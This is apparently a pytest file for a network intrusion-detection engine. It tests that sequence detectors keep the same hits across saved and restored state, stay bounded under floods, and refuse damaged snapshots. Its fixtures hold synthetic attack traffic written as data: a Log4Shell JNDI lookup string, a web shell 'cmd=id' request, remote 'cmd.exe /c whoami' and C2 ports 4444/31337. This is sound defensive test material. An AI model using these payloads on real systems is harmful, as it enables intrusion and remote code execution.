"""What sequences remember: saved between any two batches the hits are the same; bounded; refused."""

import base64
import random
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detections.detector import Behaviours
from detections.networks import PRIVATE, Networks
from detections.sequences import snapshot
from detections.sequences.catalogue import Sequences, all_sequences
from detections.sequences.recent import Recent
from sensors.choose import sensors
from taishi.app.intake import Input, read
from taishi.core.event import Batch
from taishi.core.records import Hit
from tests.detections.sequences.conftest import Said, batch_of, said

#: Traces on which several sequences speak, with the batches of several kinds between which memory is cut.
TRACES = (
    "compromised/exploit-success", "compromised/zerologon", "compromised/lateral", "compromised/backdoor",
    "compromised/ad", "compromised/c2-tls", "compromised/c2-http", "compromised/stealer-exfil",
    "compromised/apt-dns", "attempt/log4shell", "attempt/exploit-fail", "attempt/zerologon",
)  # fmt: skip
DC, HOST, STRANGER = "10.0.0.2", "10.0.0.9", "203.0.113.7"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; rv:115.0) Gecko/20100101 Firefox/115.0"
VALUE = base64.b64encode(bytes(range(7, 200))).decode()


def story() -> list[Said]:
    """Events of which every sequence makes something."""
    inside = {"source__ip": HOST, "destination__ip": DC}
    flow = {"taishi__flow__source_payload": 9000, "taishi__flow__destination_payload": 90}
    told: list[Said] = []
    for opnum in (17, 34, 39, 36):
        told.append(_rpc("samr", opnum, argument="Domain Admins", **inside))
    told += [_rpc("drsuapi", 3, **inside), _rpc("svcctl", 12, argument="cmd.exe /c whoami", **inside)]
    told += [_rpc("netlogon", 26, n, taishi__rpc__weak_challenge=True, **inside) for n in range(3)]
    told += [_rpc("netlogon", 30, 9, **inside)]
    told += [said("smb", 20, taishi__smb__version="1", taishi__smb__marks=["transaction-kind-changed"],
                  source__ip=STRANGER, destination__ip=HOST)]  # fmt: skip
    told += [said("flow", 15 + 10 * n, destination__port=4444, **flow) for n in range(2)]
    told += [said("flow", 30, destination__port=31337, **flow)]
    told += [said("flow", n, network__protocol="dhcp", source__port=68, destination__port=67,
                  source__packets=400, source__mac="02:00:00:00:00:01") for n in range(2)]  # fmt: skip
    told += [_ticket(f"MSSQL/db{n}", source__ip=HOST) for n in range(3)]
    told += [_ticket("SAP/old", source__ip=f"10.0.5.{n}") for n in range(3)]
    told += [_ticket("", source__ip="10.0.6.6", user__name="svc", taishi__kerberos__request="AS",
                     taishi__kerberos__preauthenticated=False, taishi__kerberos__reply_cipher="rc4-hmac",
                     taishi__kerberos__offered=["rc4-hmac"])]  # fmt: skip
    told += [_rpc("drsuapi", 3, source__ip="10.0.0.4", destination__ip=DC)]
    told += [said("kerberos", 1, source__ip="10.0.5.1", destination__ip="10.0.0.4")]
    told += [_request(45, url__domain="api.ipify.org", user_agent__original="curl/8")]
    told += [said("dns", 60 * n, dns__question__registered_domain=name, dns__question__name=name)
             for n, name in enumerate(("drivres-update.example", "soft-updates.example"))]  # fmt: skip
    told += [said("tls", 40, destination__port=8888, tls__server__subject="CN=kqXz7Rw2Pv9",
                  taishi__tls__self_signed=True, tls__client__ja3="j")]  # fmt: skip
    told += [said("flow", 40, destination__port=8888, network__protocol="tls", event__duration=10**11,
                  source__packets=90, destination__packets=90)]  # fmt: skip
    told += [_request(50 + n, body=f"p={VALUE}", url__domain="dyn.duckdns.org") for n in range(2)]
    told += [_request(70, extra={"http.response.body.type": "pe"}, url__domain=STRANGER,
                      http__response__mime_type="image/png")]  # fmt: skip
    told += [said("http", 80, source__ip=STRANGER, destination__ip=HOST,
                  url__original="/?x=${jndi:ldap://198.51.100.7:1389/a}")]  # fmt: skip
    told += [said("flow", at, destination__ip="198.51.100.7", destination__port=1389) for at in (82, 95)]
    told += [said("http", day * 86_400, event__module="pcap", taishi__personal=["id_card:600"],
                  url__path="/q", source__ip=who, destination__ip=DC)
             for day, who in ((0, HOST), (3, "10.0.7.7"))]  # fmt: skip
    told += [said("other", day * 86_400, event__category="database", user__name=who,
                  message="SELECT * FROM renkou")
             for day, who in ((0, "app"), (3, "guest"))]  # fmt: skip
    told += [said("other", 5, taishi__personal=["id_card:3"], event__module="syslog")]
    told += [said("flow", 100 + n, source__ip=source, source__mac="02:00:00:00:00:77", destination__packets=4)
             for n, source in enumerate(("10.0.0.77", *["192.168.43.5"] * 3))]  # fmt: skip
    told += [said("logon", at, source__ip=ip, source__geo__country_iso_code=country, user__name="wang@gov.cn",
                  event__outcome="success", destination__ip=DC)
             for at, country, ip in ((130, "CN", "36.7.0.9"), (190, "US", STRANGER))]  # fmt: skip
    told += [said("process", 110, host__name="pc-78", host__ip=["10.0.0.78", "192.168.44.5"])]
    told += [said("flow", 111 + n, source__ip="192.168.44.5", destination__packets=4) for n in range(3)]
    told += [said("flow", 110, source__ip="10.0.9.5", destination__packets=4)]
    told += [said("http", 100 + n, url__original="\\x16", http__response__status_code=400) for n in range(3)]
    told += [said("http", 120, source__ip=STRANGER, destination__ip=None, log__file__path="a.log",
                  url__original="/a?PHPSESSID=1", http__request__referrer="https://a.example/")]  # fmt: skip
    told += [said("http", 130, source__ip=f"203.0.113.{n}", destination__ip=DC, url__original="/",
                  url__path="/", http__response__status_code=200) for n in range(20, 24)]  # fmt: skip
    told += [said("http", 130 + n * n, source__ip=STRANGER, destination__ip=DC, url__original="/upload/a.php",
                  url__path="/upload/a.php", http__response__status_code=200, http__request__method="POST",
                  http__response__body__bytes=40 + n) for n in range(6)]  # fmt: skip
    told += [said("http", 140, source__ip=STRANGER, destination__ip=DC, url__original="/a.jsp?cmd=id",
                  http__response__body__content="uid=0(root) gid=0(root)")]  # fmt: skip
    return told


def _rpc(interface: str, opnum: int, seconds: float = 0, argument: str = "", **row: object) -> Said:
    return said("rpc", seconds, taishi__rpc__interface=interface, taishi__rpc__opnum=opnum,
                taishi__rpc__argument=argument, taishi__rpc__result="0x00000000",
                taishi__rpc__answered=True, **row)  # fmt: skip


def _ticket(service: str, **row: object) -> Said:
    told = {"event__outcome": "success", "taishi__kerberos__request": "TGS", "destination__ip": "10.0.0.3"}
    return said("kerberos", taishi__kerberos__service=service, taishi__kerberos__cipher="rc4-hmac",
                taishi__kerberos__tgt_cipher="aes256", **{**told, **row})  # fmt: skip


def _request(seconds: float, body: str = "", extra: dict[str, object] | None = None, **row: object) -> Said:
    return said("http", seconds, extra, http__request__method="POST" if body else "GET",
                url__path="/10a5031d37bc79.php", url__original="/10a5031d37bc79.php", destination__port=80,
                taishi__http__headers="Host: x\nExpect: 100-continue", http__request__body__content=body,
                **{"user_agent__original": BROWSER, **row})  # fmt: skip


def watching() -> Sequences:
    return Sequences(Networks(PRIVATE, ["10.0.0.0/16"], ["10.0.9.0/24"]))


def again(one: Sequences) -> Sequences:
    """As a restart leaves it."""
    other = watching()
    other.restore(one.saved())
    return other


def looks(batches: list[Batch], cuts: set[int]) -> Iterator[list[Hit]]:
    """What stands after every batch; before some the memory is saved and read back."""
    one = watching()
    for number, batch in enumerate(batches):
        if number in cuts:
            one = again(one)
        one.observe(batch)
        yield list(one.standing())


def crowds() -> list[Said]:
    """What only many events make, and what one of its kind does."""
    ours, theirs = {"source__ip": HOST, "destination__ip": STRANGER}, {"source__ip": STRANGER}
    told = [said("dns", n / 4, destination__ip=DC, dns__question__type="ANY", dns__question__name="a.example",
                 **theirs) for n in range(60)]  # fmt: skip
    told += [said("logon", n, {"http.logon": "form", "url.path": "/login"}, destination__ip=HOST,
                  network__protocol="http", user__name="admin", **theirs) for n in range(25)]  # fmt: skip
    told += [said("other", n, {"smtp.helo": f"pc-{n}", "smtp.senders": [f"{n}.example"], "smtp.refused": 1},
                  source__ip=HOST, destination__ip=f"203.0.113.{n + 10}", destination__port=25,
                  event__dataset="pcap.smtp", event__action="session") for n in range(9)]  # fmt: skip
    bare = {"taishi__flow__state": "OTH", "taishi__flow__source_payload": 0, "source__packets": 1,
            "destination__packets": 0}  # fmt: skip
    told += [said("flow", n, {"tcp.source_flags": {"none": 1}}, destination__ip=HOST, destination__port=n + 1,
                  **theirs, **bare) for n in range(10)]  # fmt: skip
    told += [said("flow", 1, {"payload.source_head": b"Microsoft Windows [Version 10".hex()}, source__port=8,
                  network__transport="icmp", **ours)]  # fmt: skip
    head = (bytes(8) + b"\x19\x08" + bytes(40)).hex()
    told += [said("flow", 2, {"payload.source_head": head}, source__port=134, network__transport="ipv6-icmp",
                  destination__ip=HOST, **theirs)]  # fmt: skip
    return told


def test_the_story_makes_every_sequence_speak() -> None:
    events = [*story(), *crowds()]
    *_, hits = looks([batch_of(event, number=n) for n, event in enumerate(events)], set())
    silent = [one.id for one in all_sequences(Networks(PRIVATE)) if not _spoke(one.id, hits)]
    assert silent == []


def _spoke(rule: str, hits: list[Hit]) -> bool:
    return any(hit.rule.startswith(rule) for hit in hits)


@settings(deadline=None, max_examples=40)
@given(st.permutations(range(len(story()))), st.sets(st.integers(0, len(story()))))
def test_a_restart_between_any_two_events_changes_no_hit(order: list[int], cuts: set[int]) -> None:
    events = story()
    batches = [batch_of(events[place], number=place) for place in order]
    assert list(looks(batches, cuts)) == list(looks(batches, set()))


@pytest.mark.parametrize("folder", TRACES)
def test_a_restart_between_any_two_batches_of_a_real_trace_changes_no_hit(corpus: Path, folder: str) -> None:
    for path in sorted((corpus / "network" / folder).iterdir()):
        batches = _pieces(path)
        expected = list(looks(batches, set()))
        assert list(looks(batches, set(range(len(batches))))) == expected
        for cut in range(len(batches)):
            *_, last = looks(batches, {cut})
            assert last == expected[-1], f"{path.name}, cut before batch {cut}"


def _pieces(path: Path) -> list[Batch]:
    """The events of a trace in some twelve batches."""
    whole = list(read(path, Input(path.name), sensors()))
    size = max(1, sum(map(len, whole)) // 8)
    return [Batch(one.kind, one.rows.slice(at, size)) for one in whole for at in range(0, len(one), size)]


def test_a_sequence_remembers_in_recents_alone() -> None:
    for one in all_sequences(Networks(PRIVATE)):
        held = [value for value in vars(one).values() if not isinstance(value, Networks)]
        assert held
        assert all(isinstance(value, Recent) for value in held), one.id


def test_who_was_met_last_stays_through_a_restart() -> None:
    one: Recent[str, list[int]] = Recent(str, list[int], 3)
    for name in "abc":
        one[name].append(1)
    one["a"].append(2)
    other: Recent[str, list[int]] = Recent(str, list[int], 3)
    other.restore(one.saved())
    for held in (one, other):
        assert held["d"] == []
        assert dict(held.items()) == {"c": [1], "a": [1, 2], "d": []}


def test_asking_changes_no_memory() -> None:
    one = watching()
    for n, event in enumerate(story()):
        one.observe(batch_of(event, number=n))
    before = one.saved()
    assert list(one.standing()) == list(one.standing())
    assert one.saved() == before


def test_a_lower_limit_keeps_the_latest() -> None:
    one: Recent[int, bool] = Recent(int, bool)
    for number in range(9):
        one[number] = True
    other: Recent[int, bool] = Recent(int, bool, 2)
    other.restore(one.saved())
    assert dict(other.items()) == {7: True, 8: True}


def test_a_group_is_bounded_too() -> None:
    """One host that asks for ever new tickets, and one server told of ever new places."""
    one = watching()
    for n in range(400):
        one.observe(batch_of(_ticket(f"MSSQL/db{n}", source__ip=HOST), number=n))
        place = f"/?x=${{jndi:ldap://198.51.100.7:{n + 1}/a}}"
        one.observe(batch_of(said("http", source__ip=STRANGER, url__original=place), number=n))
        if n == 250:
            size = _largest(one)
    assert _largest(one) < size * 1.01


def _largest(one: Sequences) -> int:
    return max(len(msgspec.msgpack.encode(group)) for _, held in one.memories() for _, group in held.items())


def test_memory_is_bounded_under_a_flood() -> None:
    """Ever new names, hosts and places: state of a size that no longer grows."""
    dice, one = random.Random(5), watching()
    for n in range(40):
        one.observe(_flood(dice, n))
    assert max(len(held) for _, held in one.memories()) <= 20_000
    assert len(one.saved()) < 4_000_000


def _flood(dice: random.Random, n: int) -> Batch:
    def address() -> str:
        return f"10.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(256)}"

    rows = [
        said("flow", n, source__ip=address(), destination__ip=address(), destination__port=4444,
             taishi__flow__source_payload=9000, taishi__flow__destination_payload=90)
        for _ in range(1000)
    ]  # fmt: skip
    return batch_of(*rows)


def damaged() -> Iterator[bytes]:
    memories = snapshot.decode(watching().saved())
    first = next(iter(memories))
    yield b""
    yield b"?"
    yield msgspec.msgpack.encode([snapshot.VERSION + 1, b""])
    yield msgspec.msgpack.encode([snapshot.VERSION, b"not compressed"])
    yield watching().saved()[:-9]
    yield snapshot.encode({})
    yield snapshot.encode({**memories, "taishi.sequence.of-tomorrow/kept": b"\x90"})
    yield snapshot.encode({**memories, first: msgspec.msgpack.encode([[["a", "b"], {"renamed": 1}]])})


@pytest.mark.parametrize("state", list(damaged()))
def test_another_state_is_refused_and_nothing_is_remembered(state: bytes) -> None:
    full = Behaviours(Networks(PRIVATE))
    for n, event in enumerate(story()):
        full.observe(batch_of(event, number=n))
    ledger = full.ledger.saved()
    fresh = Behaviours(Networks(PRIVATE))
    with pytest.raises(ValueError, match="sequences' state"):
        fresh.restore(msgspec.msgpack.encode([ledger, state, b""]))
    assert list(fresh.standing()) == []


def test_behaviours_save_what_sequences_remember() -> None:
    one, other = Behaviours(Networks(PRIVATE)), Behaviours(Networks(PRIVATE))
    for n, event in enumerate(story()):
        one.observe(batch_of(event, number=n))
    told = {hit.id: hit for hit in one.standing() if hit.rule.startswith("taishi.sequence.")}
    other.restore(one.snapshot())
    assert told
    assert {hit.id: hit for hit in other.standing()}.items() >= told.items()


@pytest.mark.parametrize("state", [b"", b"?", b"\x90"])
def test_what_is_no_snapshot_of_behaviours_is_refused(state: bytes) -> None:
    with pytest.raises(ValueError, match="cannot be read"):
        Behaviours(Networks(PRIVATE)).restore(state)
